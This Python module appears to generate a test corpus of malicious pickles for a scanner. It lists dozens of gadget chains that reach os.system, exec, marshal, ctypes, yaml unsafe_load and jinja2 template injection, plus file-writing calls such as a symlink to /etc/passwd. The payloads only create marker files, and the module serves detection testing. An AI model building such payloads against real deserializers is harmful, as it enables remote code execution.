"""Calling something a pickle can name: what runs code, what writes a file, and the long ways round to either."""

from __future__ import annotations

import pickle
import zlib
from typing import Any, Final

from .assembly import Attack, Call, Calls, Name, Payload, Result, attribute, of_calls, stream

_SYSTEM: Final = Name("os:system")
_OS: Final = Call("importlib:import_module", "os")

_OF_SHELL: Final = ("os:system", "posix:system", "os:popen", "subprocess:getoutput", "subprocess:getstatusoutput")
_OF_WORDS: Final = (
    *("subprocess:Popen", "subprocess:call", "subprocess:run", "subprocess:check_call", "subprocess:check_output"),
    *("pty:spawn", "distutils.spawn:spawn", "setuptools._distutils.spawn:spawn"),
)
_OF_CODE: Final = ("builtins:exec", "builtins:eval", "cProfile:run", "profile:run")


def _compiled(payload: Payload) -> Call:
    return Call("builtins:compile", payload.code, "x", "exec")


RUNS: Final[Calls] = {
    **{path: lambda payload, path=path: Call(path, payload.shell) for path in _OF_SHELL},
    **{path: lambda payload, path=path: Call(path, payload.words) for path in _OF_WORDS},
    **{path: lambda payload, path=path: Call(path, payload.code) for path in _OF_CODE},
    "cProfile:runctx": lambda p: Call("cProfile:runctx", p.code, {}, {}),
    "profile:runctx": lambda p: Call("profile:runctx", p.code, {}, {}),
    "timeit:timeit": lambda p: Call("timeit:timeit", "pass", p.code),
    "timeit:repeat": lambda p: Call("timeit:repeat", "pass", p.code),
    "timeit:main": lambda p: Call("timeit:main", ["-n1", "-r1", p.code]),
    "exec of compile": lambda p: Call("builtins:exec", _compiled(p)),
    "os:execvp": lambda p: Call("os:execvp", "touch", p.words),
    "posix:execv": lambda p: Call("posix:execv", "/usr/bin/touch", p.words),
    "os:spawnvp": lambda p: Call("os:spawnvp", 0, "touch", p.words),
    "os:spawnlp": lambda p: Call("os:spawnlp", 0, "touch", *p.words),
    "posix:posix_spawn": lambda p: Call("posix:posix_spawn", "/usr/bin/touch", p.words, {}),
    "multiprocessing.util:spawnv_passfds": lambda p: Call(
        "multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", p.words, []
    ),
    "uuid:_get_command_stdout": lambda p: Call("uuid:_get_command_stdout", *p.words),
    "_osx_support:_read_output": lambda p: Call("_osx_support:_read_output", p.shell),
    "imaplib:IMAP4_stream": lambda p: Call("imaplib:IMAP4_stream", p.shell),
    "webbrowser:GenericBrowser": lambda p: Result(
        attribute(Call("webbrowser:GenericBrowser", "touch"), "open"), p.marker
    ),
    "bdb:Bdb.run": lambda p: Result(attribute(Call("bdb:Bdb"), "run"), p.code),
    "code:InteractiveInterpreter": lambda p: Result(
        attribute(Call("code:InteractiveInterpreter"), "runcode"), _compiled(p)
    ),
    "code:runsource": lambda p: Result(attribute(Call("code:InteractiveInterpreter"), "runsource"), p.code),
    "trace:Trace": lambda p: Result(attribute(Call("trace:Trace", 0, 0), "run"), p.code),
    "doctest:debug_script": lambda p: Call("doctest:debug_script", p.code, True, {}),
    "importlib and getattr": lambda p: Result(attribute(_OS, "system"), p.shell),
    "importlib and inspect": lambda p: Result(Call("inspect:getattr_static", _OS, "system"), p.shell),
    "__import__ and getattr": lambda p: Result(attribute(Call("builtins:__import__", "os"), "system"), p.shell),
    "pkgutil:resolve_name": lambda p: Result(Call("pkgutil:resolve_name", "os:system"), p.shell),
    "pydoc:locate": lambda p: Result(Call("pydoc:locate", "os.system"), p.shell),
    "pydoc:pipepager": lambda p: Call("pydoc:pipepager", "", p.shell),
    "pydoc:tempfilepager": lambda p: Call("pydoc:tempfilepager", "", f"{p.shell};true"),
    "logging.config": lambda p: Call(
        "logging.config:dictConfig",
        {"version": 1, "filters": {"x": {"()": "os.system", "command": p.shell}}},
    ),
    "operator:methodcaller": lambda p: Result(Call("operator:methodcaller", "system", p.shell), _OS),
    "operator:attrgetter": lambda p: Result(Result(Call("operator:attrgetter", "system"), _OS), p.shell),
    "operator:attrgetter in a chain": lambda p: Result(
        Result(Call("operator:attrgetter", "path.os.system"), _OS), p.shell
    ),
    "operator:call": lambda p: Call("operator:call", _SYSTEM, p.shell),
    "sys:modules": lambda p: Result(attribute(Call("operator:getitem", Name("sys:modules"), "os"), "system"), p.shell),
    "__globals__ of a function": lambda p: Result(
        attribute(Call("operator:getitem", attribute(Name("logging:getLogger"), "__globals__"), "os"), "system"),
        p.shell,
    ),
    "__globals__ by a dotted name": lambda p: Result(
        Call("operator:getitem", Name("os:makedirs.__globals__"), "system"), p.shell
    ),
    "functools:reduce": lambda p: Call(
        "builtins:list", Call("functools:reduce", Name("builtins:map"), [_SYSTEM, [p.shell]])
    ),
    "functools:partial called": lambda p: Result(Call("functools:partial", _SYSTEM, p.shell)),
    "functools:partial.__setstate__": lambda p: Result(
        Call("operator:attrgetter", "func"), Call("functools:partial", Call("os:system", p.shell))
    ),
    "functools:singledispatch": lambda p: Result(Call("functools:singledispatch", _SYSTEM), p.shell),
    "functools:cache": lambda p: Result(Call("functools:cache", _SYSTEM), p.shell),
    "types:MethodType": lambda p: Result(Call("types:MethodType", _SYSTEM, p.shell)),
    "marshal and FunctionType": lambda p: Result(
        Call("types:FunctionType", Call("marshal:loads", p.marshalled), Call("builtins:globals"))
    ),
    "marshal and exec": lambda p: Call("builtins:exec", Call("marshal:loads", p.marshalled)),
    "runpy:_run_code": lambda p: Call("runpy:_run_code", _compiled(p), {}),
    "contextvars:Context.run": lambda p: Result(attribute(Call("contextvars:Context"), "run"), _SYSTEM, p.shell),
    "multiprocessing.pool:mapstar": lambda p: Call("multiprocessing.pool:mapstar", (_SYSTEM, [p.shell])),
    "concurrent.futures.process": lambda p: Call("concurrent.futures.process:_process_chunk", _SYSTEM, [(p.shell,)]),
    "threading:Thread.run": lambda p: Result(
        attribute(Call("threading:Thread", None, _SYSTEM, None, (p.shell,)), "run")
    ),
    "weakref:finalize": lambda p: Result(Call("weakref:finalize", Call("collections:OrderedDict"), _SYSTEM, p.shell)),
    "pickle:loads": lambda p: Call("pickle:loads", p.pickle),
    "_pickle:loads": lambda p: Call("_pickle:loads", p.pickle),
    "cloudpickle:loads": lambda p: Call("cloudpickle:loads", p.pickle),
    "cloudpickle subimport": lambda p: Result(
        attribute(Call("cloudpickle.cloudpickle:subimport", "os"), "system"), p.shell
    ),
    "codecs:decode, then loads": lambda p: Call("pickle:loads", Call("codecs:decode", p.pickle.hex().encode(), "hex")),
    "binascii, then exec": lambda p: Call("builtins:exec", Call("binascii:unhexlify", p.code.encode().hex())),
    "zlib, then loads": lambda p: Call("pickle:loads", Call("zlib:decompress", _deflated(p.pickle))),
    "ctypes:CDLL": lambda p: Result(attribute(Call("ctypes:CDLL", None), "system"), p.shell.encode()),
    "ctypes:PyDLL": lambda p: Result(attribute(Call("ctypes:PyDLL", None), "system"), p.shell.encode()),
    "yaml:unsafe_load": lambda p: Call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{p.shell}']"),
    "jinja2:Template": lambda p: Result(
        attribute(Call("jinja2:Template", "{{ x.__init__.__globals__['os'].system(c) }}"), "render"),
        {"x": Call("logging:Formatter"), "c": p.shell},
    ),
    "joblib:load": lambda p: Call("joblib:load", Call("io:BytesIO", p.pickle)),
    "numpy:load": lambda p: Call("numpy:load", Call("io:BytesIO", p.pickle), None, True),
    "pandas:read_pickle": lambda p: Call("pandas:read_pickle", Call("io:BytesIO", p.pickle)),
    "sqlalchemy": lambda p: Result(
        attribute(Call("sqlalchemy.ext.serializer:Deserializer", Call("io:BytesIO", p.pickle)), "load")
    ),
}
"""What runs a command or code. Every one is loaded by the tests and makes its marker."""

CONSUMED: Final[Calls] = {
    f"{consumer} of {source}": lambda p, consumer=consumer, source=source: Call(
        consumer, Call(source, _SYSTEM, [(p.shell,)] if source.endswith("starmap") else [p.shell])
    )
    for consumer, source in (
        *(
            (f"builtins:{name}", "builtins:map")
            for name in ("list", "tuple", "bytes", "bytearray", "sum", "max", "any")
        ),
        *((f"builtins:{name}", "builtins:filter") for name in ("set", "frozenset", "sorted")),
        *((f"collections:{name}", "builtins:map") for name in ("deque", "Counter", "UserList")),
        ("builtins:list", "itertools:starmap"),
        ("builtins:tuple", "itertools:filterfalse"),
        ("builtins:next", "builtins:map"),
    )
}
"""Lazy iterators that run a command when something takes their values."""

WRITES: Final[Calls] = {
    **{
        path: lambda payload, path=path: Call(path, payload.marker, "w")
        for path in (
            *("builtins:open", "io:open", "_io:open", "codecs:open", "_io:FileIO", "io:FileIO", "tarfile:open"),
            *("zipfile:ZipFile", "logging:FileHandler", "tokenize:_builtin_open", "pathlib:io.open"),
        )
    },
    **{
        path: lambda payload, path=path: Call(path, payload.marker, "wb")
        for path in ("gzip:open", "bz2:open", "lzma:open", "wave:open", "bz2:BZ2File", "lzma:LZMAFile")
    },
    **{
        path: lambda payload, path=path: Call(path, payload.marker)
        for path in (
            *("os:mkdir", "os:makedirs", "posix:mkdir", "os:mkfifo", "os:mknod", "sqlite3:connect"),
            *("joblib.disk:mkdirp", "distutils.dir_util:mkpath"),
        )
    },
    "distutils.file_util": lambda p: Call("distutils.file_util:write_file", p.marker, ["x"]),
    "os:symlink": lambda p: Call("os:symlink", "/nowhere", p.marker),
    "os:open": lambda p: Call("os:open", p.marker, 0o101),
    "shutil:copy": lambda p: Call("shutil:copy", "/etc/hostname", p.marker),
    "shutil:copytree": lambda p: Call("shutil:copytree", "/proc/self/fdinfo", p.marker),
    "pathlib:Path.touch": lambda p: Call("pathlib:Path.touch", Call("pathlib:PosixPath", p.marker)),
    "pathlib:Path.write_text": lambda p: Call("pathlib:Path.write_text", Call("pathlib:PosixPath", p.marker), "x"),
    "getattr of Path": lambda p: Result(attribute(Call("pathlib:PosixPath", p.marker), "touch")),
    "py_compile": lambda p: Call("py_compile:compile", pickle.__file__, p.marker),
    "linecache and write": lambda p: Call(
        "pathlib:Path.symlink_to", Call("pathlib:PosixPath", p.marker), "/etc/passwd"
    ),
    "numpy:savetxt": lambda p: Call("numpy:savetxt", p.marker, [1.0]),
    "numpy:memmap": lambda p: Call("numpy:memmap", p.marker, "u1", "w+", 0, (1,)),
    "numpy ndarray.tofile": lambda p: Result(
        attribute(Call("numpy._core.multiarray:scalar", Call("numpy:dtype", "i4"), b"abcd"), "tofile"), p.marker
    ),
    "joblib:dump": lambda p: Call("joblib:dump", [1], p.marker),
    "joblib:Memory": lambda p: Call("joblib:Memory", p.marker),
    "pandas to_csv": lambda p: Result(attribute(Call("pandas:DataFrame", {"a": [1]}), "to_csv"), p.marker),
    "pandas DataFrame.to_csv dotted": lambda p: Call(
        "pandas:DataFrame.to_csv", Call("pandas:DataFrame", {"a": [1]}), p.marker
    ),
    "scipy.io:savemat": lambda p: Call("scipy.io:savemat", p.marker, {"a": 1}, False),
    "sklearn dump_svmlight": lambda p: Call("sklearn.datasets:dump_svmlight_file", [[1.0]], [1.0], p.marker),
    "skops dump": lambda p: Call("skops.io:dump", [1], p.marker),
    "safetensors save_file": lambda p: Call("safetensors.numpy:save_file", {}, p.marker),
}
"""What makes a file without running code."""


def _deflated(data: bytes) -> bytes:
    return zlib.compress(data)


def attacks() -> list[Attack]:
    """One file for each call."""
    calls: dict[str, Any] = {**RUNS, **CONSUMED, **WRITES}
    return [*of_calls("callables", calls), *_wrapped()]


def _wrapped() -> list[Attack]:
    """Loading paths in loading paths: each level is a pickle in an argument of the one around it."""

    def nested(payload: Payload, levels: int) -> bytes:
        inner = payload.pickle
        for _ in range(levels):
            inner = stream(Call("pickle:loads", inner))
        return inner

    return [
        Attack(f"loads, {levels} levels deep", "callables", lambda payload, levels=levels: nested(payload, levels))
        for levels in (2, 5)
    ]
